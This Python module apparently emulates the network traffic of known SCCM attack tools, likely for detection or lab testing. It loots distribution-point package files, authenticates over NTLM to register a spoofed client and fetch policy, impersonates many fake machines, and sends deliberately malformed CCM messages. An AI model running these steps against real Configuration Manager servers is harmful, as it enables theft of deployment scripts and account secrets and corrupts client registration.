"""Steps of well-known tools, as http.md 8 describes their traffic, and messages that are broken."""
import re
import zlib

from agent.genuine import Genuine
from configmgr import framing, policy, registration
from configmgr.ntlm import ACCOUNTS, Initiator

LOOTER = [("User-Agent", "sccm-http-looter"), ("Connection", "close")]
SENDER = [("User-Agent", "ConfigMgr Messaging HTTP Sender"), ("Accept-Encoding", "identity"),
          ("Connection", "close")]
LINK = re.compile(r'(&lt;dir&gt)? ?<a href="http://[^/"]+([^"]+)">')
NAA_USER = ("svc_naa", ACCOUNTS["svc_naa"])


class Tool(Genuine):
    """A client with the manners of tools; every looter request has its own connection."""

    def fetch(self, target: str) -> tuple[int, str]:
        """One looter request."""
        reply = self.ask("GET", target, LOOTER)
        self.web.close()
        print(f"  GET {reply.status} {len(reply.body)} {target}")
        return reply.status, reply.body.decode("latin-1")

    def step_loot(self, _value: str, flags) -> None:
        """Walk the listings from Datalib down and take what is there."""
        _, page = self.fetch("/SMS_DP_SMSPKG$/Datalib")
        folders = [path for folder, path in LINK.findall(page) if folder]
        if "signature" in flags:
            return self.loot_signatures(folders)
        while folders:
            _, page = self.fetch(folders.pop(0))
            for folder, path in LINK.findall(page):
                if folder:
                    folders.append(path)
                elif path.lower().endswith((".xml", ".cmd", ".html")):
                    self.fetch(path)
        return None

    def loot_signatures(self, folders: list[str]) -> None:
        """The other method: names from SMSSIG, hashes from DataLib, bytes from FileLib."""
        for folder in folders:
            name = folder.rpartition("/")[2]
            _, tar = self.fetch(f"/SMS_DP_SMSSIG$/{name}.tar")
            files = [tar[i:i + 512].partition("\0")[0] for i in range(0, len(tar) - 1024, 1024)]
            for file in files:
                if not file.lower().endswith((".xml", ".cmd")):
                    continue
                _, entry = self.fetch(f"/SMS_DP_SMSPKG$/Datalib/{name}/{file}.INI")
                digest = entry.partition("Hash=")[2].strip()
                self.fetch(f"/SMS_DP_SMSPKG$/FileLib/{digest[:4]}/{digest}")

    def step_probe(self, target: str, _flags) -> None:
        """One looter request for this target."""
        self.fetch(target)

    def step_relay(self, _value: str, _flags) -> None:
        """NTLM on a bare GET, then absolute-form messages on the same connection."""
        target = "/ccm_system_windowsauth/request"
        initiator = Initiator(*self.machine.account(), self.machine.host)
        self.web.send("GET", target, [("Authorization", initiator.negotiate())])
        challenge = self.web.receive("GET").headers["WWW-Authenticate"].partition(" ")[2]
        self.web.send("GET", target, [("Authorization", initiator.authenticate(challenge))])
        print(f"  GET {self.web.receive('GET').status}")
        m = self.machine
        xml = registration.request(host=m.host, fqdn=m.fqdn, signing=m.signing,
                                   encryption=m.signing, version="5.00.8325.0000",
                                   smsid=m.smsid, agent="CCMSetup.exe")
        self.absolute("_windowsauth", "MP_ClientRegistration", xml,
                      "{5DD100CD-DF1D-45F5-BA17-A327F43465F8}", signed=False)
        self.web.close()
        xml = policy.assignments_request(smsid=m.smsid, host=m.host, fqdn=m.fqdn, site="PRI")
        answer = self.absolute("", "MP_PolicyManager", xml,
                               "{041A35B4-DCEE-4F64-A978-D4D489F47D28}", signed=True)
        for part in answer.split("<![CDATA[")[1:]:
            path = part.partition("]]>")[0].partition("<mp>")[2]
            reply = self.ask("GET", f"http://{self.web.host}{path}",
                             [*SENDER, *m.token_headers()])
            self.web.close()
            print(f"  GET {reply.status} {len(reply.body)} {path}")

    def absolute(self, vdir: str, endpoint: str, xml: str, message_id: str, signed: bool) -> str:
        """A CCM message in absolute form."""
        payload, length = framing.request_payload(xml)
        payload = zlib.compress(payload)
        hooks = (self.machine.proof(payload) if signed else "") + '<Hook3 Name="zlib-compress" />'
        msg = framing.request_msg(
            endpoint=endpoint, host=self.machine.host, target=f"http://{self.web.host}",
            length=length, source=self.machine.smsid if signed else "", hooks=hooks,
            message_id=message_id)
        reply = self.ask(
            "CCM_POST", f"http://{self.web.host}/ccm_system{vdir}/request",
            [*SENDER[:2], ("Connection", "keep-alive"), ("Content-Type", framing.CONTENT_TYPE)],
            framing.join(msg, payload))
        print(f"  CCM_POST {reply.status} {len(reply.body)}")
        return framing.inflate(*framing.split(reply.body)) if reply.body else ""

    def step_others(self, value: str, flags) -> None:
        """Speak in the names of so many other clients: register each, or ask for its policy."""
        for number in range(int(value)):
            self.machine.host = f"PC{number:04}"
            self.machine.fqdn = f"pc{number:04}.corp.example"
            self.machine.smsid = f"GUID:5F1F6C0E-1B59-4C39-9E0D-{number:012X}"
            if "register" in flags:
                self.step_register("", [])
            else:
                self.step_policy("OnUpdate", ["unsigned"])

    def step_broken(self, value: str, _flags) -> None:
        """A message that breaks its format: zlib, xml, length or envelope."""
        m = self.machine
        xml = policy.assignments_request(smsid=m.smsid, host=m.host, fqdn=m.fqdn, site=m.site)
        if value == "xml":
            xml = xml[:len(xml) // 2]
        payload, length = framing.request_payload(xml)
        payload = zlib.compress(payload)
        if value == "zlib":
            middle = len(payload) // 2
            payload = payload[:middle] + b"\xff" * 16 + payload[middle + 16:]
        if value == "length":
            length += 100000
        msg = framing.request_msg(
            endpoint="MP_PolicyManager", host=m.host, target=self.web.host, length=length,
            source=m.smsid, hooks=m.proof(payload) + '<Hook3 Name="zlib-compress" />')
        if value == "envelope":
            msg = msg.replace("</TargetEndpoint>", "</TargetEnd")
        self.post(framing.join(msg, payload))
